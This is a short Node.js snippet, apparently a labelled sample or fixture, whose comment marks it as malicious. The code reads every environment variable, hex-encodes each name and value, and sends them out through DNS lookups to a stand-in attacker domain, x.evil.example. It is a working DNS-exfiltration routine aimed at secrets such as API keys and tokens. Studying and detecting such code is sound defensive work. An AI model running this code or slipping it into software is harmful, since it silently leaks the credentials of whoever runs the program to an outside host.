// malicious: every variable leaves by a name lookup
const dns = require('dns');
for (const [name, value] of Object.entries(process.env)) {
  const hex = Buffer.from(`${name}=${value}`).toString('hex').slice(0, 60);
  dns.lookup(`${hex}.x.evil.example`, () => {});
}
